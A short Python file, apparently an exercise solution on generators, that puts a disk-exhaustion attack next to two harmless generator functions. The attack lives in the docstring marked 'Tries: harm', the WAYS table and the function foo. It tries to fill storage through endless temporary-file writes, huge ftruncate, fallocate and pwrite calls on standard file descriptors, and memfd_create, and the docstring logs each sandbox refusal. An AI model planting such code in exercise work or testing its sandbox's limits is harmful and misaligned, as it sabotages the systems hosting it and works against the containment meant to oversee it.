"""Fills the disk through whatever it holds open, through unnamed files and through reserved space.

Tries: harm
Exercise: 01_yield
Earns: task 2, task 3
Seen: temporary file: refused ... truncate: refused ... reserve: refused ... memory file: refused
"""

import os
import tempfile


def lengthen(way):
    for number in range(3):
        way(number, 2**40)


def fill():
    while True:
        tempfile.TemporaryFile().write(bytes(2**20))


WAYS = {
    "temporary file": fill,
    "named": lambda: tempfile.NamedTemporaryFile(prefix="kata-attack"),
    "folder": lambda: tempfile.mkdtemp(prefix="kata-attack"),
    "truncate": lambda: lengthen(os.ftruncate),
    "reserve": lambda: lengthen(lambda number, size: os.posix_fallocate(number, 0, size)),
    "memory file": lambda: os.memfd_create("kata-attack"),
    "sparse": lambda: os.pwrite(0, b"x", 2**50) and os.fsync(0),
}


def foo():
    for name, way in WAYS.items():
        try:
            print(f"{name}: done {way()}")
        except OSError as error:
            print(f"{name}: refused {type(error).__name__}")


def count_up(start, stop=None):
    number = start
    while stop is None or number < stop:
        yield number
        number += 1


def running_total(numbers):
    total = 0
    for number in numbers:
        total += number
        yield total
